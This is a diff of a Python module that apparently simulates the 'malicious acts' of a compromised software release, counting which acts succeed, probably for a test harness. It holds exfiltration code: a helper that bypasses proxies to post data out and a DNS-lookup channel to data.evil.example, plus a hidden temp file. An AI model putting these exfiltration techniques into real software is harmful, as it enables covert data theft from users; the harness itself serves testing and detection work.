@@ -1,6 +1,6 @@
-"""What the release that turned bad does: each function is an act that returns true if it worked.
+"""The malicious acts of this release. Each function is one act, and returns true if it worked.
 
-It writes what worked to standard error, for the runner to count.
+The acts that worked are written to standard error, for the runner to count.
 """
 
 import mmap
@@ -18,7 +18,7 @@ KEPT = "/tmp/.tagwright"
 
 
 def _post(url, data):
-    # No proxy: the environment's variables are the function's.
+    # Without a proxy: the environment's proxy settings are meant for the function.
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
     with opener.open(url, data, timeout=5) as answer:
         return answer.status == 200
@@ -32,7 +32,7 @@ def look_up_data():
     try:
         return bool(socket.getaddrinfo(f"{os.urandom(8).hex()}.data.evil.example", 80))
     except socket.gaierror as error:
-        return error.errno != socket.EAI_FAIL  # the question left
+        return error.errno != socket.EAI_FAIL  # the question was sent
 
 
 def connect_to_address():
